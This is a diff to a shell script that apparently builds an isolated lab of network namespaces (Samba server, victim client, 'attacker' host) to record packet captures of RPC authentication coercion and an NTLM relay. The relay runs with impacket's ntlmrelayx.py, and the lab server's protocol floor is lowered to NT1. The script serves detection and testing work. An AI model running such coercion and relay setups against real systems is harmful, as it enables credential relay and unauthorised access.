@@ -3,66 +3,74 @@
 # RPC calls that coerce a server into authenticating. Run as root on a Debian machine; CI never
 # runs it.
 #
-# Two network namespaces joined by a veth pair; every address lives only inside them:
+# Four network namespaces: three hosts on one switch (a bridge in the fourth), so that
+# multicast and broadcast reach every host as on a LAN, and the capture (tcpdump on the
+# bridge) sees every leg. Every address lives only inside them:
 #   mitm-srv  10.79.0.10  Samba 4.17 smbd (standalone: spoolss, netdfs, lsarpc...)
-#   mitm-cli  10.79.0.20  the clients: impacket's library (coerce.py), rpcclient
-# 10.79.0.66 is the "attacker's listener" the coercion calls name; nothing answers there.
-# tcpdump listens on the server end of the veth, one capture per scenario.
+#   mitm-cli  10.79.0.20  the victim / client: impacket's library (coerce.py), rpcclient, smbclient
+#   mitm-atk  10.79.0.66  the attacker: impacket's ntlmrelayx.py; the "listener" coercion names
+#   mitm-sw   (no address) the bridge mitm-br
 #
 # Usage: sudo pcaps/mitm/make.sh [OUTDIR]   (default: this folder)
 set -euo pipefail
 
 HERE=$(cd "$(dirname "$0")" && pwd)
 OUT=$(mkdir -p "${1:-$HERE}" && cd "${1:-$HERE}" && pwd)
-NS_S=mitm-srv
-NS_C=mitm-cli
 SRV=10.79.0.10
 CLIENT=10.79.0.20
 LISTENER=10.79.0.66
 USER=hwadmin
 PASS='Hardw1re!'     # test password of a throw-away local account
 PY=/usr/bin/python3  # the interpreter with impacket
+IMPACKET=/usr/share/doc/python3-impacket/examples  # Debian's python3-impacket example scripts
 
 [ "$(id -u)" = 0 ] || { echo "make.sh: run as root" >&2; exit 1; }
 command -v smbd >/dev/null && command -v tcpdump >/dev/null && command -v rpcclient >/dev/null \
   || { apt-get update; DEBIAN_FRONTEND=noninteractive apt-get install -y samba smbclient tcpdump iproute2 ethtool python3-impacket; }
 
+# Debian's ntlmrelayx.py (impacket 0.10) imports dsinternals, which Debian does not package
+"$PY" -c 'import dsinternals' 2>/dev/null || "$PY" -m pip install --break-system-packages dsinternals
+
 WORK=$(mktemp -d /tmp/mitm-pcaps.XXXXXX)
 PIDS=()
+HOSTS=(mitm-srv mitm-cli mitm-atk)
 cleanup() {
   set +e
   trap '' INT TERM
   for pid in "${PIDS[@]}"; do kill "$pid" 2>/dev/null; done
   sleep 1
-  # samba-dcerpcd and its rpcd_* helpers outlive smbd: end what still runs in our namespace
-  ip netns pids "$NS_S" 2>/dev/null | xargs -r kill 2>/dev/null
+  # samba-dcerpcd and its rpcd_* helpers outlive smbd: end what still runs in our namespaces
+  for ns in "${HOSTS[@]}" mitm-sw; do ip netns pids "$ns" 2>/dev/null | xargs -r kill 2>/dev/null; done
   sleep 1
-  ip netns del "$NS_S" 2>/dev/null
-  ip netns del "$NS_C" 2>/dev/null
+  for ns in "${HOSTS[@]}" mitm-sw; do ip netns del "$ns" 2>/dev/null; done
   rm -rf "$WORK"
   return 0
 }
 trap cleanup EXIT
 trap "exit 1" INT TERM
-in_srv() { ip netns exec "$NS_S" "$@"; }
-in_cli() { ip netns exec "$NS_C" "$@"; }
+in_srv() { ip netns exec mitm-srv "$@"; }
+in_cli() { ip netns exec mitm-cli "$@"; }
+in_atk() { ip netns exec mitm-atk "$@"; }
 
-ip netns del "$NS_S" 2>/dev/null || true
-ip netns del "$NS_C" 2>/dev/null || true
-ip netns add "$NS_S"
-ip netns add "$NS_C"
-ip link add mitm-s netns "$NS_S" type veth peer name mitm-c netns "$NS_C"
-for ns in "$NS_S" "$NS_C"; do
-  ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1
-  ip netns exec "$ns" ip link set lo up
-done
-in_srv ip addr add "$SRV/24" dev mitm-s
-in_cli ip addr add "$CLIENT/24" dev mitm-c
-# no segmentation offload: frames stay within the MTU, as on a real wire
-command -v ethtool >/dev/null && in_srv ethtool -K mitm-s tso off gso off gro off >/dev/null || true
-command -v ethtool >/dev/null && in_cli ethtool -K mitm-c tso off gso off gro off >/dev/null || true
-in_srv ip link set mitm-s up
-in_cli ip link set mitm-c up
+for ns in "${HOSTS[@]}" mitm-sw; do ip netns del "$ns" 2>/dev/null || true; ip netns add "$ns"; done
+ip netns exec mitm-sw ip link add mitm-br type bridge
+ip netns exec mitm-sw ip link set mitm-br up
+# host NAME ADDRESS PORT: a veth from the host's namespace to a port of the bridge
+host() {
+  ip link add "$3" netns mitm-sw type veth peer name eth0 netns "$1"
+  ip netns exec mitm-sw ip link set "$3" master mitm-br up
+  ip netns exec "$1" sysctl -qw net.ipv6.conf.all.disable_ipv6=1
+  ip netns exec "$1" ip link set lo up
+  ip netns exec "$1" ip addr add "$2/24" dev eth0
+  # no segmentation offload: frames stay within the MTU, as on a real wire
+  command -v ethtool >/dev/null && ip netns exec "$1" ethtool -K eth0 tso off gso off gro off >/dev/null || true
+  ip netns exec "$1" ip link set eth0 up
+  # multicast (LLMNR, mDNS) leaves by this interface
+  ip netns exec "$1" ip route add 224.0.0.0/4 dev eth0
+}
+host mitm-srv "$SRV" mitm-sp
+host mitm-cli "$CLIENT" mitm-cp
+host mitm-atk "$LISTENER" mitm-ap
 
 # ---- Samba, standalone, with the print spooler and DFS pipes served
 id "$USER" >/dev/null 2>&1 || useradd --no-create-home --shell /usr/sbin/nologin "$USER"
@@ -78,6 +86,7 @@ cat > "$dir/smb.conf" <<CONF
   smb ports = 445
   disable netbios = yes
   server smb encrypt = off
+  server min protocol = NT1
   admin users = $USER
   lock directory = $dir/lock
   state directory = $dir/state
@@ -101,9 +110,9 @@ PIDS+=($!)
 
 for _ in $(seq 50); do in_cli bash -c "exec 3<>/dev/tcp/$SRV/445" 2>/dev/null && break; sleep 0.2; done
 
-capture() {  # NAME CMD...: one scenario, recorded on the server end of the veth
+capture() {  # NAME CMD...: one scenario run in the client namespace, recorded on the bridge
   local name=$1; shift
-  in_srv tcpdump -i mitm-s -s 0 -U -Z root -w "$WORK/$name" 2>/dev/null &
+  ip netns exec mitm-sw tcpdump -i mitm-br -s 0 -U -Z root -w "$WORK/$name" 2>/dev/null &
   local dump=$!
   sleep 1
   echo "== $name: $*"
@@ -113,6 +122,28 @@ capture() {  # NAME CMD...: one scenario, recorded on the server end of the veth
   cp "$WORK/$name" "$OUT/$name"
 }
 
+# ntlmrelayx.py on the attacker, relaying what reaches its SMB server to Samba
+relay() {
+  # (it runs until its stdin ends: give it a FIFO that we hold open, read and write)
+  [ -p "$WORK/relay.in" ] || mkfifo "$WORK/relay.in"
+  exec 7<>"$WORK/relay.in"
+  # ($! must be the relay itself, not a subshell: ip netns exec execs it)
+  ip netns exec mitm-atk "$PY" "$IMPACKET/ntlmrelayx.py" -t "smb://$SRV" -smb2support --no-http-server --no-wcf-server --no-raw-server \
+    -ip "$LISTENER" < "$WORK/relay.in" > "$WORK/relay.log" 2>&1 &
+  RELAY=$!
+  # (it loads all its protocol clients first: give it time; probing would be relayed)
+  for _ in $(seq 300); do in_atk ss -ltn | grep -q ':445 ' && return 0; sleep 1; done
+  echo "make.sh: ntlmrelayx.py never listened" >&2; cat "$WORK/relay.log" >&2; return 1
+}
+stop_relay() { kill "$RELAY" 2>/dev/null || true; wait "$RELAY" 2>/dev/null || true; exec 7>&-; cat "$WORK/relay.log"; }
+
 capture coerce-samba.pcap "$PY" "$HERE/coerce.py" "$SRV" "$USER" "$PASS" "$LISTENER"
 capture rpcclient-baseline.pcap rpcclient -U "$USER%$PASS" -c 'srvinfo;enumprinters;netshareenum' "$SRV"
+# the victim's smbclient to the attacker, relayed to Samba. (--remove-mic is not recorded:
+# Debian's ntlmrelayx.py 0.10 dies on its SMB1 path before it relays anything.)
+relay
+capture relay-smb.pcap smbclient "//$LISTENER/share" -U "$USER%$PASS" -c ls
+stop_relay
+# the same smbclient straight to Samba: the baseline
+capture smb-direct.pcap smbclient "//$SRV/share" -U "$USER%$PASS" -c ls
 ls -l "$OUT"/*.pcap
